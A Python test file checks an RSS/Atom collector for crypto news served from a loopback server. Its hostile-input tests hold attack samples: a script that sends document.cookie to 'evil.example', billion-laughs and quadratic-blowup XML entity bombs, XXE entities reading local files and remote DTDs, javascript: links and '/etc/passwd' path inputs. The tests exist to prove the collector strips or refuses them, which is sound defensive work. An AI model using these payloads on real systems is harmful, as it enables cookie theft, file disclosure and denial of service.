"""FeedparserCollector against feeds served from 127.0.0.1 by the loopback server, with the real
httpx and feedparser: good feeds, bad input, hostile XML and HTTP failures."""

from __future__ import annotations

import time
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from collectors.assets import AssetTagger
from collectors.base import CollectResult, SourceError
from collectors.live.rss import FeedparserCollector
from collectors.registry import CollectOptions
from collectors.registry import build_collectors as build_source
from collectors.runner import run_once
from core.records import SourceFamily
from core.settings import HttpSettings, Settings
from core.store import Store
from tests.loopback import LoopbackServer, Reply, Request

NOW = datetime(2026, 1, 15, 12, 0, tzinfo=UTC)
FAST_HTTP = HttpSettings(timeout_s=0.5, retries=1, backoff_base_s=0.01)
RSS_TYPE = {"Content-Type": "application/rss+xml; charset=utf-8"}


def item(
    n: int,
    *,
    title: str | None = None,
    link: str | None = "default",
    guid: str | None = None,
    date: str | None = "Wed, 14 Jan 2026 09:30:00 GMT",
    description: str | None = None,
    extra: str = "",
) -> str:
    """One RSS item; ``link="default"`` gives a unique article URL."""
    parts = [f"<title>{escape(title or f'Bitcoin story number {n} moves markets')}</title>"]
    if link == "default":
        link = f"https://news.example.com/2026/01/story-{n}"
    if link is not None:
        parts.append(f"<link>{escape(link)}</link>")
    if guid is not None:
        parts.append(f'<guid isPermaLink="false">{escape(guid)}</guid>')
    if date is not None:
        parts.append(f"<pubDate>{date}</pubDate>")
    body = description if description is not None else f"Traders discuss story {n} about BTC."
    parts.append(f"<description>{escape(body)}</description>")
    return "<item>" + "".join(parts) + extra + "</item>"


def rss(items: Sequence[str], *, title: str = "Example crypto news", head: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{head}\n'
        '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        f"<channel><title>{escape(title)}</title><link>https://news.example.com/</link>"
        + "".join(items)
        + "</channel></rss>"
    )


def collector(
    url: str, *, http: HttpSettings = FAST_HTTP, name: str = "example"
) -> FeedparserCollector:
    return FeedparserCollector(name, url, http=http, tagger=AssetTagger(), clock=lambda: NOW)


def serve_feed(
    loopback: LoopbackServer, body: str | bytes, path: str = "/feed.xml", **headers: str
) -> str:
    loopback.route(path, Reply(200, body, {**RSS_TYPE, **headers}))
    return loopback.url(path)


def reasons(result: CollectResult) -> set[str]:
    return {w.reason for w in result.warnings}


# --- good feeds --------------------------------------------------------------------------------


def test_rss_entries_become_documents_with_every_field(loopback: LoopbackServer) -> None:
    entry = item(
        1,
        title="Ether slips as staking withdrawals pile up",
        link="https://news.example.com/eth-slips?utm_source=rss&id=7",
        guid="story-1",
        description="Short summary.",
        extra=(
            "<dc:creator>Dana Whitfield</dc:creator><category>Markets</category>"
            "<category>Ethereum</category><content:encoded><![CDATA[<p>ETH fell 4% on the day "
            "as the validator exit queue grew.</p><p>Analysts watch $3,100.</p>]]>"
            "</content:encoded>"
        ),
    )
    url = serve_feed(loopback, rss([entry]))
    result = collector(url).collect({})

    assert result.warnings == ()
    (doc,) = result.documents
    assert doc.source == "rss:example"
    assert doc.family is SourceFamily.NEWS
    assert doc.url == "https://news.example.com/eth-slips?id=7"  # tracking parameter dropped
    assert doc.source_id == "story-1"
    assert doc.title == "Ether slips as staking withdrawals pile up"
    assert (
        doc.text
        == "ETH fell 4% on the day as the validator exit queue grew.\nAnalysts watch $3,100."
    )
    assert doc.author == "Dana Whitfield"
    assert doc.published_at == datetime(2026, 1, 14, 9, 30, tzinfo=UTC)
    assert doc.ingested_at == NOW
    assert doc.assets == ("ETH",)
    assert doc.lang == "en"
    assert doc.metadata["feed_title"] == "Example crypto news"
    assert doc.metadata["categories"] == ["Markets", "Ethereum"]
    assert doc.warnings == ()


def test_atom_entries_become_documents(loopback: LoopbackServer) -> None:
    atom = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom news</title>
<id>tag:example.com,2026:feed</id><updated>2026-01-14T10:00:00Z</updated>
<entry><title type="html">Solana &lt;b&gt;record&lt;/b&gt; day</title>
<link rel="alternate" href="/2026/01/solana-record"/>
<id>tag:example.com,2026:1</id><updated>2026-01-14T10:00:00Z</updated>
<published>2026-01-14T08:00:00+02:00</published>
<author><name>Priya</name></author>
<summary type="html">&lt;p&gt;SOL network processed 75 million transactions.&lt;/p&gt;</summary>
</entry></feed>"""
    loopback.route(
        "/atom", Reply(200, atom, {"Content-Type": "application/atom+xml; charset=utf-8"})
    )
    result = collector(loopback.url("/atom")).collect({})

    (doc,) = result.documents
    assert doc.title == "Solana record day"
    assert doc.url == f"{loopback.base_url}/2026/01/solana-record"  # resolved against the feed
    assert doc.source_id == "tag:example.com,2026:1"
    assert doc.text == "SOL network processed 75 million transactions."
    assert doc.published_at == datetime(2026, 1, 14, 6, 0, tzinfo=UTC)
    assert doc.author == "Priya"
    assert doc.assets == ("SOL",)


def test_non_english_entry_is_kept_and_flagged(loopback: LoopbackServer) -> None:
    entry = item(
        1,
        title="El precio de bitcoin sube con fuerza",
        description="Los inversores compran más bitcoin tras la aprobación del fondo cotizado.",
    )
    (doc,) = collector(serve_feed(loopback, rss([entry]))).collect({}).documents
    assert doc.lang == "es"
    assert doc.metadata["non_english"] is True
    assert doc.assets == ("BTC",)


def test_entry_with_only_a_guid_is_kept_under_source_and_guid(loopback: LoopbackServer) -> None:
    entry = item(1, link=None, guid="urn:example:42")
    (doc,) = collector(serve_feed(loopback, rss([entry]))).collect({}).documents
    assert doc.url is None
    assert doc.source_id == "urn:example:42"


# --- bad input -------------------------------------------------------------------------------


def test_malformed_feed_keeps_entries_and_records_warning(loopback: LoopbackServer) -> None:
    body = rss([item(1), item(2)]).replace("</channel></rss>", "<item><title>cut off")
    result = collector(serve_feed(loopback, body)).collect({})

    assert [d.url for d in result.documents] == [
        "https://news.example.com/2026/01/story-1",
        "https://news.example.com/2026/01/story-2",
    ]
    assert "malformed-xml" in reasons(result)
    assert all("malformed-xml" in d.warnings for d in result.documents)
    assert all(w.source == "rss:example" for w in result.warnings)


def test_feed_with_undeclared_windows_1252_encoding_is_detected_and_kept(
    loopback: LoopbackServer,
) -> None:
    title = "Le bitcoin dépasse un sommet, l'éther suit à Zürich"
    body = rss([item(1, title=title, description="Les marchés réagissent: café crème")])
    data = body.replace(' encoding="utf-8"', "").encode("cp1252")
    url = serve_feed(loopback, data, **{"Content-Type": "application/rss+xml"})
    result = collector(url).collect({})

    (doc,) = result.documents
    assert doc.title == title
    assert doc.text == "Les marchés réagissent: café crème"
    assert "encoding-repaired" in reasons(result)
    assert "encoding-repaired" in doc.warnings


def test_feed_whose_declared_encoding_is_wrong_is_read_correctly(loopback: LoopbackServer) -> None:
    title = "Ethereum : la mise à jour arrive, l'éther grimpe"
    body = rss([item(1, title=title)]).replace('encoding="utf-8"', 'encoding="iso-8859-1"')
    url = serve_feed(loopback, body.encode("utf-8"), **{"Content-Type": "text/xml"})
    result = collector(url).collect({})

    assert result.documents[0].title == title  # not "l'Ã©ther"
    assert "encoding-repaired" in reasons(result)


def test_feed_in_a_declared_single_byte_charset_needs_no_repair(loopback: LoopbackServer) -> None:
    title = "Привет: биткоин растёт"
    body = rss([item(1, title=title)]).replace('encoding="utf-8"', 'encoding="koi8-r"')
    url = serve_feed(loopback, body.encode("koi8-r"), **{"Content-Type": "application/xml"})
    result = collector(url).collect({})

    assert result.documents[0].title == title
    assert "encoding-repaired" not in reasons(result)


def test_html_page_served_as_feed_raises_not_a_feed(loopback: LoopbackServer) -> None:
    page = (
        "<!DOCTYPE html><html><head><title>Crypto News</title>"
        '<link rel="alternate" type="application/rss+xml" href="/rss"></head>'
        "<body><h1>Bitcoin news</h1><p>Latest stories</p></body></html>"
    )
    loopback.route("/page", Reply(200, page, {"Content-Type": "text/html; charset=utf-8"}))
    with pytest.raises(SourceError) as err:
        collector(loopback.url("/page")).collect({})
    assert err.value.reason == "not-a-feed"
    assert err.value.source == "rss:example"
    assert "HTML page" in err.value.detail


@pytest.mark.parametrize("body", [b"", b"/etc/passwd", b'{"items": []}', b"just some text"])
def test_body_that_is_no_feed_at_all_raises_not_a_feed(
    loopback: LoopbackServer, body: bytes
) -> None:
    # b"/etc/passwd" also proves feedparser never treats the body as a path to open
    url = serve_feed(loopback, body)
    with pytest.raises(SourceError) as err:
        collector(url).collect({})
    assert err.value.reason == "not-a-feed"
    assert "root:" not in str(err.value)


def test_script_and_javascript_urls_never_reach_stored_text(loopback: LoopbackServer) -> None:
    html = (
        "<p onclick=\"alert('x')\">Bitcoin rallies</p>"
        "<script>document.location='https://evil.example/'+document.cookie</script>"
        "<style>body{display:none}</style>"
        "<a href=\"javascript:alert('y')\">read more</a> javascript:alert('z')"
    )
    entry = item(1, title="<script>alert(1)</script>Bitcoin up", description=html)
    (doc,) = collector(serve_feed(loopback, rss([entry]))).collect({}).documents

    for value in (doc.title, doc.text):
        assert "<" not in value
        assert "alert" not in value
        assert "javascript" not in value.lower()
        assert "document" not in value
    assert doc.title == "Bitcoin up"
    assert doc.text == "Bitcoin rallies\nread more"


def test_entry_link_with_script_scheme_is_dropped_with_warning(loopback: LoopbackServer) -> None:
    entry = item(1, link="javascript:alert(1)", guid="g-1")
    result = collector(serve_feed(loopback, rss([entry]))).collect({})
    (doc,) = result.documents
    assert doc.url is None
    assert doc.source_id == "g-1"
    assert "bad-link" in doc.warnings


def test_broken_and_missing_dates_use_ingested_time_with_warning(loopback: LoopbackServer) -> None:
    items = [item(1, date="next Thursday, probably"), item(2, date=None), item(3)]
    result = collector(serve_feed(loopback, rss(items))).collect({})

    broken, missing, good = result.documents
    assert broken.published_at == NOW and "bad-date" in broken.warnings
    assert missing.published_at == NOW and "bad-date" in missing.warnings
    assert good.published_at == datetime(2026, 1, 14, 9, 30, tzinfo=UTC)
    assert good.warnings == ()
    details = [w.detail for w in result.warnings if w.reason == "bad-date"]
    assert len(details) == 2
    assert "next Thursday" in details[0]


def test_placeholder_epoch_date_counts_as_bad_date(loopback: LoopbackServer) -> None:
    result = collector(
        serve_feed(loopback, rss([item(1, date="Thu, 01 Jan 1970 00:00:00 GMT")]))
    ).collect({})
    assert result.documents[0].published_at == NOW
    assert "bad-date" in reasons(result)


def test_future_date_is_clamped_to_now_with_warning(loopback: LoopbackServer) -> None:
    items = [
        item(1, date="Fri, 01 Jan 2099 00:00:00 GMT"),
        item(2, date="Thu, 15 Jan 2026 12:02:00 GMT"),
    ]
    result = collector(serve_feed(loopback, rss(items))).collect({})

    far, skewed = result.documents
    assert far.published_at == NOW and "future-date" in far.warnings
    assert skewed.published_at == NOW and skewed.warnings == ()  # within clock skew, no warning
    assert [w.reason for w in result.warnings] == ["future-date"]


def test_entries_without_link_and_id_are_skipped_with_warning(loopback: LoopbackServer) -> None:
    items = [item(1, link=None), item(2), item(3, title=" ", description="", guid="empty")]
    result = collector(serve_feed(loopback, rss(items))).collect({})

    assert [d.url for d in result.documents] == ["https://news.example.com/2026/01/story-2"]
    assert reasons(result) == {"no-id", "empty-entry"}


# --- hostile XML -------------------------------------------------------------------------------

BILLION_LAUGHS = """<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>"""


def test_billion_laughs_entities_are_not_expanded(loopback: LoopbackServer) -> None:
    entry = item(1, title="Bitcoin &lol9; rally", description="BTC &lol9; &lol; news")
    body = rss([entry], head=BILLION_LAUGHS).replace("&amp;lol", "&lol")
    started = time.monotonic()
    result = collector(serve_feed(loopback, body)).collect({})

    assert time.monotonic() - started < 5
    (doc,) = result.documents
    assert doc.title == "Bitcoin rally"
    assert doc.text == "BTC lol news"  # the one literal entity is harmless and kept
    assert "xml-entity-expansion" in reasons(result)
    assert "xml-entity-expansion" in doc.warnings


def test_a_second_doctype_cannot_smuggle_entities_in(loopback: LoopbackServer) -> None:
    head = '<!DOCTYPE rss [<!ENTITY ok "fine">]>\n' + BILLION_LAUGHS.replace("lol1;", "ok;")
    entry = item(1, title="Bitcoin &ok; &lol9; rally")
    body = rss([entry], head=head).replace("&amp;", "&")
    result = collector(serve_feed(loopback, body)).collect({})

    assert result.documents[0].title == "Bitcoin fine rally"
    assert "xml-entity-expansion" in reasons(result)


def test_quadratic_blowup_entity_is_not_expanded(loopback: LoopbackServer) -> None:
    big = "A" * 50_000
    head = f'<!DOCTYPE rss [<!ENTITY big "{big}">]>'
    entry = item(1, description="x" + "&big;" * 2000)
    body = rss([entry], head=head).replace("&amp;big;", "&big;")
    result = collector(serve_feed(loopback, body), http=FAST_HTTP).collect({})

    assert len(result.documents[0].text) < 100
    assert "xml-entity-expansion" in reasons(result)


def test_external_file_entity_is_not_read(loopback: LoopbackServer, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER")
    head = f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    entry = item(1, title="Bitcoin &xxe; news", description="leak: &xxe;")
    body = rss([entry], head=head).replace("&amp;xxe;", "&xxe;")
    result = collector(serve_feed(loopback, body)).collect({})

    (doc,) = result.documents
    assert "TOP-SECRET-MARKER" not in doc.title + doc.text
    assert doc.title == "Bitcoin news"
    assert "xml-external-entity" in reasons(result)


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{base}/xxe">]>',
        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "{base}/evil.dtd"> %remote;]>',
        '<!DOCTYPE rss SYSTEM "{base}/evil.dtd">',
        '<!DOCTYPE rss PUBLIC "-//Evil//DTD//EN" "{base}/evil.dtd">',
    ],
    ids=["general-entity", "parameter-entity", "external-dtd", "public-dtd"],
)
def test_external_http_entities_and_dtds_are_never_fetched(
    loopback: LoopbackServer, head: str
) -> None:
    hits: list[str] = []

    def record(req: Request) -> Reply:
        hits.append(req.path)
        return Reply(200, '<!ENTITY xxe "FETCHED-MARKER">', {"Content-Type": "text/plain"})

    loopback.route("/xxe", record)
    loopback.route("/evil.dtd", record)
    body = rss([item(1, title="Bitcoin &xxe; news")], head=head.format(base=loopback.base_url))
    result = collector(serve_feed(loopback, body.replace("&amp;xxe;", "&xxe;"))).collect({})

    assert hits == []
    assert all("FETCHED-MARKER" not in d.title + d.text for d in result.documents)
    assert [d.url for d in result.documents] == ["https://news.example.com/2026/01/story-1"]


def test_declared_literal_entities_are_still_expanded(loopback: LoopbackServer) -> None:
    head = '<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY coin "Bitcoin">]>'
    body = rss([item(1, title="&coin;&nbsp;climbs")], head=head).replace("&amp;", "&")
    result = collector(serve_feed(loopback, body)).collect({})
    assert result.documents[0].title == "Bitcoin climbs"
    assert result.warnings == ()


# --- HTTP behaviour ------------------------------------------------------------------------------


def test_timeout_raises_source_error_after_retries(loopback: LoopbackServer) -> None:
    loopback.route("/slow", Reply(200, rss([item(1)]), RSS_TYPE, delay_s=1.0))
    http = HttpSettings(timeout_s=0.2, retries=1, backoff_base_s=0.01)
    with pytest.raises(SourceError) as err:
        collector(loopback.url("/slow"), http=http).collect({})
    assert err.value.reason == "timeout"
    assert len(loopback.requests) == 2  # one try and one retry


def test_server_error_raises_source_error_after_retries(loopback: LoopbackServer) -> None:
    loopback.route("/broken", Reply(500, "internal error"))
    with pytest.raises(SourceError) as err:
        collector(loopback.url("/broken")).collect({})
    assert err.value.reason == "http-500"
    assert len(loopback.requests) == 2


def test_not_found_fails_at_once_without_retries(loopback: LoopbackServer) -> None:
    with pytest.raises(SourceError) as err:
        collector(loopback.url("/missing")).collect({})
    assert err.value.reason == "http-404"
    assert len(loopback.requests) == 1


def _etag_feed(loopback: LoopbackServer, body: str, etag: str = '"v1"') -> None:
    def handler(req: Request) -> Reply:
        if req.headers.get("if-none-match") == etag:
            return Reply(304, b"", {"ETag": etag})
        return Reply(
            200, body, {**RSS_TYPE, "ETag": etag, "Last-Modified": "Wed, 14 Jan 2026 10:00:00 GMT"}
        )

    loopback.route("/feed.xml", handler)


def test_etag_304_produces_no_duplicates(loopback: LoopbackServer, store: Store) -> None:
    _etag_feed(loopback, rss([item(1), item(2)]))
    feed = collector(loopback.url("/feed.xml"))

    first = run_once(feed, store, FAST_HTTP)
    second = run_once(feed, store, FAST_HTTP)

    assert first.ok and first.ingest.new == 2
    assert second.ok and (second.ingest.new, second.ingest.duplicates) == (0, 0)
    assert store.documents.count() == 2
    assert loopback.requests[1].headers["if-none-match"] == '"v1"'
    assert loopback.requests[1].headers["if-modified-since"] == "Wed, 14 Jan 2026 10:00:00 GMT"
    cursor = store.sources.state("rss:example").cursor
    assert cursor["etag"] == '"v1"'  # a 304 keeps the validators


def test_changed_feed_url_does_not_reuse_old_validators(loopback: LoopbackServer) -> None:
    _etag_feed(loopback, rss([item(1)]))
    result = collector(loopback.url("/feed.xml")).collect(
        {"url": "https://old.example/feed", "etag": '"v1"'}
    )
    assert len(result.documents) == 1
    assert "if-none-match" not in loopback.requests[0].headers


def test_byte_cap_parses_what_arrived_and_warns(loopback: LoopbackServer) -> None:
    body = rss([item(n) for n in range(1, 60)])
    assert len(body) > 8 * 1024
    url = serve_feed(loopback, body, ETag='"big"')
    http = HttpSettings(timeout_s=2, retries=0, max_bytes=4096)
    result = collector(url, http=http).collect({})

    assert 5 <= len(result.documents) < 59
    assert "truncated" in reasons(result)
    assert all("truncated" in d.warnings for d in result.documents)
    assert "etag" not in (result.cursor or {})  # the next poll fetches the whole feed again


def test_endless_body_is_cut_at_the_byte_cap(loopback: LoopbackServer) -> None:
    # the same item over and over, with no Content-Length and no end
    loopback.route("/endless", Reply(200, item(7), RSS_TYPE, chunks=1_000_000))
    http = HttpSettings(timeout_s=5, retries=0, max_bytes=16 * 1024)
    started = time.monotonic()
    result = collector(loopback.url("/endless"), http=http).collect({})

    assert time.monotonic() - started < 5
    assert "truncated" in reasons(result)
    assert {d.url for d in result.documents} == {"https://news.example.com/2026/01/story-7"}


def test_truncated_connection_keeps_what_arrived(loopback: LoopbackServer) -> None:
    body = rss([item(n) for n in range(1, 20)])
    loopback.route("/cut", Reply(200, body, RSS_TYPE, truncate_to=len(body) // 2))
    result = collector(loopback.url("/cut"), http=HttpSettings(timeout_s=2, retries=0)).collect({})
    assert 3 <= len(result.documents) < 19
    assert {"truncated", "malformed-xml"} <= reasons(result)


# --- across feeds --------------------------------------------------------------------------------


def test_same_story_through_two_feeds_is_stored_once_with_both_sources(
    loopback: LoopbackServer, store: Store
) -> None:
    story = "https://news.example.com/2026/01/pension-fund-buys-bitcoin"
    shared_a = item(1, link=f"{story}?utm_source=feed-a&utm_medium=rss")
    shared_b = item(1, link="https://NEWS.example.com/2026/01/pension-fund-buys-bitcoin/?fbclid=x")
    url_a = serve_feed(loopback, rss([shared_a, item(2)]), path="/a.xml")
    url_b = serve_feed(loopback, rss([shared_b, item(3)]), path="/b.xml")

    out_a = run_once(collector(url_a, name="a"), store, FAST_HTTP)
    out_b = run_once(collector(url_b, name="b"), store, FAST_HTTP)

    assert (out_a.ingest.new, out_b.ingest.new, out_b.ingest.duplicates) == (2, 1, 1)
    assert store.documents.count() == 3
    (doc_a,) = [d for d in collector(url_a, name="a").collect({}).documents if d.url == story]
    assert store.documents.sources(doc_a.id) == ["rss:a", "rss:b"]


# --- registry ------------------------------------------------------------------------------------


def test_build_collectors_for_one_url_is_named_after_its_host(settings: Settings) -> None:
    (one,) = build_source("rss", settings, CollectOptions(url="https://www.example.com/feed"))
    assert (one.name, one.url) == ("rss:example.com", "https://www.example.com/feed")
    (named,) = build_source("rss", settings, CollectOptions(url="https://x.io/rss", name="xio"))
    assert named.name == "rss:xio"


def test_build_collectors_without_url_uses_the_configured_feeds(settings: Settings) -> None:
    built = build_source("rss", settings, CollectOptions())
    assert [c.url for c in built] == [f.url for f in settings.rss.feeds]
    assert all(c.name.startswith("rss:") for c in built)


def test_build_collectors_refuses_a_url_that_is_not_http(settings: Settings) -> None:
    with pytest.raises(ValueError, match="http"):
        build_source("rss", settings, CollectOptions(url="file:///etc/passwd"))
